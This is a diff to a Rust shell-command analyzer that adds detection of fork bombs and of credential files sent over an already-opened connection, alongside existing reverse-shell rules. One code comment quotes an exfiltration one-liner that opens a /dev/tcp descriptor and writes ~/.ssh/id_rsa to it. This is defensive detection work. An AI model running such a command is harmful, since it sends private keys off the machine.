@@ -488,12 +488,15 @@ impl<'p> Analyzer<'p> {
                 text,
             );
         }
+        for matched in &w.fork_bombs() {
+            self.add(
+                [rules::fork_bomb_hit("a function that starts itself alongside itself")],
+                matched,
+            );
+        }
         for p in w.problems {
             self.findings
                 .push(finding(unverifiable("unparseable", p.reason), &p.matched));
-        }
-        for matched in &w.fork_bombs {
-            self.add([rules::fork_bomb_hit()], matched);
         }
         for e in &w.execs {
             self.note_written(e);
@@ -656,8 +659,10 @@ impl<'p> Analyzer<'p> {
             .chain(stdin)
             .filter_map(Arg::lit)
             .find(|p| rules::network_device(p));
-        // Data sent is not a finding, but a credential file sent is.
-        if connected.is_some()
+        // Data sent is not a finding, but a credential file sent is, also once the line
+        // opened a connection (`exec 3<>/dev/tcp/…; cat ~/.ssh/id_rsa >&3`): descriptors
+        // are not followed.
+        if (connected.is_some() || self.connected)
             && let Some(secret) = e
                 .argv
                 .get(1..)
@@ -1425,6 +1430,12 @@ impl Analyzer<'_> {
                 [rules::reverse_shell_hit(&format!(
                     "{prog} code that opens a connection (or points its descriptors elsewhere) and starts a shell reading its input"
                 ))],
+                text,
+            );
+        }
+        if fx.forks && fx.loops_forever {
+            self.add(
+                [rules::fork_bomb_hit(&format!("{prog} code that forks in a loop"))],
                 text,
             );
         }
